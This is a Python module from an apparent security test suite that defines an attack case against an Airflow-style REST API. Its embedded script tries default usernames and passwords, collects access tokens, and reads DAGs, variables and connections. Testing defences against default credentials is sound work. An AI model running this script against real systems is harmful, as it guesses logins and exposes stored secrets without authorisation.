"""A task asks the REST API itself, without a login and with names and passwords that are often left there."""

from suite.attack import HELD
from suite.place import Place
from suite.weakened import finding_the_administrator

FROM = "tenant code in a task"
AGAINST = "the REST API"
DEFENCE = "all users have long passwords that were made for them, and no tenant's process holds one"
MUST = HELD
NEEDS = ("platform",)
undefended = finding_the_administrator
PROGRAM = """
import json, os, urllib.error, urllib.request
def answer(path, token="", body=None):
    headers = {"Content-Type": "application/json"} | ({"Authorization": f"Bearer {token}"} if token else {})
    data = None if body is None else json.dumps(body).encode()
    try:
        asked = urllib.request.Request(os.environ["ADDRESS"] + path, data, headers)
        return json.load(urllib.request.urlopen(asked, timeout=30))
    except (urllib.error.URLError, ValueError):
        return None
tokens = {""}
# Few: after some more the server would not listen to anybody from here for a minute.
for user in ("admin", "airflow", "alpha-editor", "beta-viewer"):
    for password in (user, os.environ["FOUND"]):
        found = answer("/auth/token", body={"username": user, "password": password})
        tokens |= {found["access_token"]} if found else set()
for token in tokens:
    for path in ("/api/v2/dags", "/api/v2/variables", "/api/v2/connections", "/ui/dags"):
        found = answer(path, token)
        if found and found.get("total_entries", 1):
            print(path, json.dumps(found)[:200])
"""


def attack(place: Place) -> str:
    """Return what is got."""
    found = place.notes.get("password", "none was found")
    return place.code.python(PROGRAM, ADDRESS=place.live.platform.api_url, FOUND=found)
